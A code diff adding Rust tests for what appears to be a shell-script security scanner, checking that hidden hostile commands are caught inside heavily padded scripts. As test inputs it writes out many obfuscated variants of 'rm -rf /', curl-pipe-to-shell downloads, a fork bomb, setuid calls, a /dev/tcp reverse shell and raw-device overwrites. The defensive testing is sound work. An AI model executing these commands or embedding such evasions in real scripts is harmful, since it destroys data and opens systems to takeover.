@@ -30,6 +30,157 @@ fn nothing_hides_behind_padding() {
     }
 }
 
+/// Commands that do nothing, of many kinds, so often that it is more than half of what trees are made of.
+fn half_of_padding() -> String {
+    let lines = "total_1() {\n  local n=0 line\n  while IFS=, read -r line; do\n    if [[ $line == *1* || $line =~ ^(a|b)$ ]]; \
+        then n=$((n << 1)); fi\n  done < data.csv\n  printf '%s: %d\\n' \"it's $n\" \"${line#'\"'}\" | sort -u # don't\n}\n\
+        case \"$1\" in\n  a|b) : ;;\n  (\"c d\") : ;;\n  *) : ;;\nesac\ncat <<E\nit's \"a\" $(date)\nE\nx=(1 '2 3')\n\
+        (( total = ${#x[@]} << 2 ))\necho `date` $'it\\'s' \"${x:-'}\" {a,b}\n";
+    lines.repeat(68 * 1024 / lines.len())
+}
+
+#[test]
+fn a_script_that_is_padded_beyond_what_is_parsed_hides_nothing() {
+    let half = half_of_padding();
+    let padding = half.repeat(2);
+    let control = found("bash", padding.as_bytes());
+    let rules: Vec<_> = control.iter().map(|finding| finding.rule.as_str()).collect();
+    assert_eq!(rules, ["any.scan.large-script"], "the control");
+    let (remove, download) = ("any.destructive.remove-everything", "any.network.download-and-run");
+    let setuid = "python.escape.system-calls";
+    for (hidden, rule) in [
+        ("rm -rf /", remove),
+        ("if true; then rm -rf /; fi", remove),
+        ("f() { rm -rf /; }; f", remove),
+        ("case a in a) rm -rf /;; esac", remove),
+        ("case a in b) :;; curl|sh) ;; (a) rm -rf / ;; esac", remove),
+        ("for x do rm -rf /; done", remove),
+        ("for ((;;)) { rm -rf /; }", remove),
+        ("while :; do rm -rf / & done", remove),
+        ("! rm -rf /", remove),
+        ("!(rm -rf /)", remove),
+        ("A=b B='c d' rm -rf /", remove),
+        ("x='rm -rf'; $x /", remove),
+        ("export x=rm; echo x=ls; ${x} -rf /", remove),
+        ("r\\m -r\\f '/'", remove),
+        ("r\"\"m -rf \\\n /", remove),
+        ("\"$(rm -rf /)\"", remove),
+        ("echo \"a `rm -rf /` b\"", remove),
+        ("echo `echo \\`rm -rf /\\``", remove),
+        ("echo ${x:-$(rm -rf /)}", remove),
+        ("echo \"${x:-'}\"; rm -rf / #'}\"", remove),
+        ("echo $(( $(rm -rf /) + 1 ))", remove),
+        ("((x << E)); rm -rf /\nE", remove),
+        ("((rm -rf /) ; (true))", remove),
+        ("[[ -n $(rm -rf /) ]]", remove),
+        ("[[ a; rm -rf /", remove),
+        ("cat <<E\n$(rm -rf /)\nE", remove),
+        ("cat <<'E'; rm -rf /\nE\n", remove),
+        ("cat <<-E\n\tE\nrm -rf /", remove),
+        ("x=( $(rm -rf /) )", remove),
+        ("bash -c 'rm -rf /'", remove),
+        ("sudo -u x sh -c \"bash -c 'rm -rf /'\"", remove),
+        ("eval 'rm -rf /'", remove),
+        ("bash <<'E'\nrm -rf /\nE", remove),
+        ("{ bash; } <<'E'\nrm -rf /\nE", remove),
+        ("echo cm0gLXJmIC8= | base64 -d | sh", remove),
+        ("curl -s x | sh", download),
+        ("curl -s x |\n  tee log | sudo bash", download),
+        ("{ curl -s x; } 2>/dev/null | sh", download),
+        ("(\ncurl x\n) | sh", download),
+        ("sh -c \"$(wget -qO- x)\"", download),
+        (". <(curl x)", download),
+        (":(){ :|:& };:", "any.destructive.fork-bomb"),
+        ("python3 - <<'E'\nimport os\nos.setuid(0)\nE", setuid),
+        ("cat <<E | python3\nimport os\nos.setuid(0)\nE", setuid),
+        ("cat > x.py <<E\nimport os\nos.setuid(0)\nE", setuid),
+        ("python3 <<< 'import os; os.setuid(0)'", setuid),
+        ("python3 -c 'import os; os.setuid(0)'", setuid),
+        ("echo 'import os; os.setuid(0)' | python3", setuid),
+        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "any.network.reverse-shell"),
+        ("cat x > /dev/nvme0n1", "any.destructive.overwrite-device"),
+    ] {
+        let findings = found("bash", format!("{half}{hidden}\n{half}").as_bytes());
+        assert!(has(&findings, rule), "{hidden}: {findings:?}");
+        assert!(has(&findings, "any.scan.large-script"), "{hidden}: {findings:?}");
+    }
+    // A quote without an end. Where bash would end it is not known, so nothing is in it.
+    let findings = found("bash", format!("{padding}echo \" # not the end\nrm -rf /\n").as_bytes());
+    assert!(has(&findings, remove) && has(&findings, "any.scan.unreadable"), "{findings:?}");
+}
+
+#[test]
+fn what_is_no_command_in_a_script_that_is_not_parsed_is_none() {
+    let half = half_of_padding();
+    let padding = half.repeat(2);
+    for harmless in [
+        "echo 'rm -rf /' \"curl x | sh\"",
+        "# rm -rf /",
+        "cat <<'E'\nrm -rf /\n$(curl x | sh)\nE",
+        "case $1 in rm|curl|sh) echo no ;; esac",
+        "[[ $1 == rm || $1 < curl ]]",
+        "curl() { :; }; function wget { :; }",
+        "x=(rm -rf /)",
+        "echo ${x/rm -rf/\\/} $((curl | sh))",
+    ] {
+        let findings = found("bash", format!("{padding}{harmless}\n").as_bytes());
+        let rules: Vec<_> = findings.iter().map(|finding| finding.rule.as_str()).collect();
+        assert_eq!(rules, ["any.scan.large-script"], "{harmless}");
+    }
+}
+
+#[test]
+fn findings_in_a_script_that_is_not_parsed_say_so_and_where_they_are() {
+    let half = half_of_padding();
+    let padding = half.repeat(2);
+    let code = format!("{padding}echo a\npython3 - <<'E'\nimport os\nos.setuid(0)\nE\ncurl x\n");
+    let findings = found("bash", code.as_bytes());
+    let lines = padding.lines().count();
+    let curl = findings.iter().find(|finding| finding.rule == "bash.network.client").unwrap();
+    assert_eq!((curl.start.line as usize, curl.start.column, curl.end.column), (lines + 6, 1, 7));
+    assert!(curl.message.contains("by tokens"), "{}", curl.message);
+    let inner = findings.iter().find(|finding| finding.rule == "python.escape.system-calls").unwrap();
+    assert_eq!((inner.start.line as usize, inner.start.column), (lines + 4, 1));
+    assert!(!inner.message.contains("by tokens"), "Python has a tree: {}", inner.message);
+}
+
+#[test]
+fn many_small_scripts_in_a_script_are_not_all_parsed() {
+    let scripts: String = (0..20_000).map(|number| format!("sh -c 'echo {number}'\n")).collect();
+    let hidden = "sh -c 'sh -c \"rm -rf /\"'\n";
+    for code in [format!("{scripts}{hidden}"), format!("python3 -c 1\n{hidden}{scripts}")] {
+        let findings = found("bash", code.as_bytes());
+        assert!(has(&findings, "any.destructive.remove-everything"), "{findings:?}");
+        assert!(has(&findings, "any.scan.large-script"), "{findings:?}");
+    }
+}
+
+#[test]
+fn large_scripts_that_are_made_to_keep_the_reader_busy_are_read() {
+    for part in [
+        "((",
+        "$((",
+        "${",
+        "${a:-",
+        "$(",
+        "\"$(",
+        "`",
+        "\"",
+        "'",
+        "[[ ",
+        "<<E ",
+        "case x in ",
+        "x=(",
+        "\0",
+        "@(",
+        "()",
+    ] {
+        let code = format!("curl x\n{}\n", part.repeat(400 * 1024 / part.len()));
+        let findings = found("bash", code.as_bytes());
+        assert!(has(&findings, "bash.network.client"), "{part}: {findings:?}");
+    }
+}
+
 #[test]
 fn ten_thousand_levels_do_not_overflow_the_stack() {
     for (language, before, open, close, hidden, rule) in [
